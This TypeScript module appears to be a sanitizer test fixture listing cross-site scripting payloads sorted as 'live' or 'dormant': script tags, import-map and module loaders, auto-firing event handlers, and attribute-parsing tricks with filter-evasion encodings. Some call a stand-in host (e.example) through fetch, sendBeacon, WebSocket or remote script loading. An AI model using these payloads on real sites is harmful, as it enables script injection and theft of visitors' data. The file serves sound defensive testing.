import type { Kind } from './kind';

/** Script elements and event handlers. */
export const running: readonly Kind[] = [
  {
    kind: 'script element',
    live: [
      '<script>alert(1)</script>',
      '<ScRiPt>alert(1)</sCrIpT>',
      '<script/x>alert(1)</script>',
      '<script\n>alert(1)</script\t>',
      '<script\x0c>alert(1)</script>',
      '<script type=module>alert(1)</script>',
      '<script type="text/javascript" defer async>alert(1)</script>',
      '<script type=" text/ecmascript ">alert(1)</script>',
      '<script language="JavaScript1.5">alert(1)</script>',
      '<script src="https://e.example/x.js"></script>',
      '<script src=//e.example/x.js async></script>',
      '<script src="https:e.example/x.js"></script>',
      '<script type=module src="https://e.example/x.mjs"></script>',
      '<script type=module>import "https://e.example/x.mjs"</script>',
      '<script src="data:text/javascript,alert(1)"></script>',
      '<script><!--\nalert(1)\n//--></script>',
      '<script>alert(1)</script foo="bar">',
      '<table><script>alert(1)</script></table>',
      '<select><script>alert(1)</script></select>',
      '<p><b><i><script>alert(1)</script></i></b>text',
      '<script>/* </script><script>alert(1)//*/</script>',
      '<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>',
      '<script>\\u0061lert(1)</script>',
      '<script>fetch("https://e.example/f")</script>',
      '<script>navigator.sendBeacon("https://e.example/b", "x")</script>',
      '<script>new Image().src = "https://e.example/i"</script>',
      '<script>new WebSocket("wss://e.example/w")</script>',
      '<script>new EventSource("https://e.example/s")</script>',
      '<script for=window event=onload>alert(1)</script>',
      '<<script>alert(1);//<</script>',
      '<script type=module src="data:text/javascript,alert(1)" nomodule></script>',
      '<server>alert(1)</server><script runat=server>alert(1)</script>',
    ],
    dormant: [
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<script type="text/vbscript">MsgBox 1</script>',
      '<script\x00>alert(1)</script>',
      '<script>alert(1)',
      '<s\x00cript>alert(1)</script>',
      '<script xmlns="http://www.w3.org/1999/xhtml" href="data:,alert(1)"></script>',
      "<%<!--'%><script>alert(1);</script -->",
    ],
  },
  {
    kind: 'rules for the loader',
    live: [
      '<script type=importmap>{"imports":{"x":"https://e.example/x.mjs"}}</script><script type=module>import "x"</script>',
      '<script type=module>await import("data:text/javascript,alert(1)")</script>',
      '<script type=webbundle>{"source":"https://e.example/b.wbn","resources":["https://e.example/b.js"]}</script>',
    ],
    dormant: [
      '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://e.example/p"]}]}</script>',
      '<script type=speculationrules>{"prerender":[{"source":"list","urls":["https://e.example/p"],"eagerness":"immediate"}]}</script>',
      '<script type=speculationrules>{"prefetch":[{"where":{"href_matches":"/*"},"eagerness":"eager"}]}</script><a href="https://e.example/p">x</a>',
    ],
  },
  {
    kind: 'event handler that needs nobody',
    live: [
      '<img src=x onerror=alert(1)>',
      '<img src="x" onerror\n=alert(1)>',
      '<img src=x oNeRrOr=alert(1)>',
      '<img src=x onerror="alert&lpar;1&rpar;">',
      '<img src=x onerror="&#97;lert(1)">',
      '<img src=x onerror="&#x61lert(1)">',
      '<img src=x onerror=&#0000097lert(1)>',
      "<img src=x onerror='alert(1)'x='>'>",
      '<img src=x onerror=window["al"+"ert"](1)>',
      '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload=alert(1)>',
      '<image src=x onerror=alert(1)>',
      '<svg onload=alert(1)>',
      '<svg/onload=alert(1)//>',
      '<svg><g onload=alert(1)></g><svg onload=alert(1)></svg></svg>',
      '<body onload=alert(1)>text',
      '<body onpageshow=alert(1)>text',
      '<body onfocus=alert(1)><input autofocus>',
      '<p>text<body onload=alert(1)>',
      '<html onload=alert(1)><frameset onload=alert(1)><frame></frameset>',
      '<details open ontoggle=alert(1)>x</details>',
      '<video onloadstart=alert(1) src=x></video>',
      '<video><source onerror=alert(1) src=x></video>',
      '<audio src=x onerror=alert(1)></audio>',
      '<iframe onload=alert(1)></iframe>',
      '<object data=x onerror=alert(1)></object>',
      '<object data="data:text/html,x" onload=alert(1)></object>',
      '<embed src=x onload=alert(1)>',
      '<script src=x onerror=alert(1)></script>',
      '<link rel=stylesheet href=x onerror=alert(1)>',
      '<link rel=stylesheet href="data:text/css," onload=alert(1)>',
      '<style onload=alert(1)>p{}</style>',
      '<input type=image src=x onerror=alert(1)>',
      '<input autofocus onfocus=alert(1)>',
      '<textarea autofocus onfocus=alert(1)></textarea>',
      '<p tabindex=0 autofocus onfocus=alert(1)>x</p>',
      '<p contenteditable autofocus onfocus=alert(1)>x</p>',
      '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=alert(1)>x</p>',
      '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</p>',
      '<select autofocus onfocus=alert(1)><option>x</select>',
      '<layer onload=alert(1)></layer>',
      '<isindex type=image src=x onerror=alert(1)>',
      '<keygen autofocus onfocus=alert(1)>',
      '<event-source src="https://e.example/s" onload=alert(1)>',
    ],
    dormant: [
      '<img src=x onerror\x00=alert(1)>',
      '<img src=x on\x00error=alert(1)>',
      '<img dynsrc=x onmediaerror=alert(1)>',
      '<bgsound src=x onpropertychange=alert(1)>',
      '<xml onreadystatechange=alert(1)></xml>',
      '<img src=x onerror\u3000=alert(1)>',
      '<img src=x ｏｎｅｒｒｏｒ=alert(1)>',
      '<marquee onstart=alert(1)>x</marquee>',
      '<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>',
    ],
  },
  {
    kind: 'attribute tricks',
    live: [
      '<img src=`x` onerror=alert(1)>',
      '<img/src="x"/onerror=alert(1)>',
      '<img src=x\tonerror=alert(1)>',
      '<img src=x\x0conerror=alert(1)>',
      '<img """><img src=x onerror=alert(1)>">',
      "<img '><img src=x onerror=alert(1)>'>",
      '<a title=">"onfocus=alert(1) href=# autofocus>x</a>',
      '<p title="&quot;><b" title=2 onclick=alert(1)>x</p>',
      '<img src=x title="a"onerror="alert(1)"alt="b">',
      '<img src=x a="" b=\'\' =x onerror=alert(1)>',
      '<img src=x "onerror=alert(1) onerror=alert(1)>',
      '<img src=x onerror=alert(1) onerror=harmless()>',
      '<img src=x data-x="<!--" onerror=alert(1) data-y="-->">',
      '<img src=x onerror=alert(1) <p>text',
      '<p/onclick="alert(1)"/title=x>x</p>',
      '<p onclick="alert(1)" onclick="">x</p>',
    ],
    dormant: [
      '<img src=x onerror=alert(1)',
      '<p title="`onmouseover=alert(1)">x</p>',
      '<p title=``onmouseover=alert(1)>x</p>',
      '<a href="x" &#111;nclick=alert(1)>x</a>',
    ],
  },
];

/**
 * The event handlers of HTML, SVG and of specifications that add to them (Pointer Events, CSS
 * Animations, Scroll Snap, Popover, Invoker Commands, Clipboard, Fullscreen, View Transitions), of all
 * engines. The test adds the engine's own list.
 */
export const handlerNames: readonly string[] = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur cancel ' +
  'canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu ' +
  'contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop ' +
  'durationchange emptied encrypted end ended error finish bounce start focus focusin focusout formdata ' +
  'fullscreenchange fullscreenerror gesturechange gestureend gesturestart gotpointercapture hashchange input ' +
  'invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart location ' +
  'lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup ' +
  'mousewheel offline online orientationchange pagehide pagereveal pageshow pageswap paste pause play playing ' +
  'pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate ' +
  'pointerup popstate progress promptaction promptdismiss ratechange readystatechange rejectionhandled repeat reset resize ' +
  'scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select ' +
  'selectionchange selectstart show slotchange stalled storage submit suspend timeupdate timezonechange toggle ' +
  'touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart ' +
  'unhandledrejection unload validationstatuschange visibilitychange volumechange waiting waitingforkey webkitanimationend ' +
  'webkitanimationiteration webkitanimationstart webkitcurrentplaybacktargetiswirelesschanged ' +
  'webkitfullscreenchange webkitfullscreenerror webkitmouseforcechanged webkitmouseforcedown ' +
  'webkitmouseforceup webkitmouseforcewillbegin webkittransitionend wheel zoom'
).split(' ');
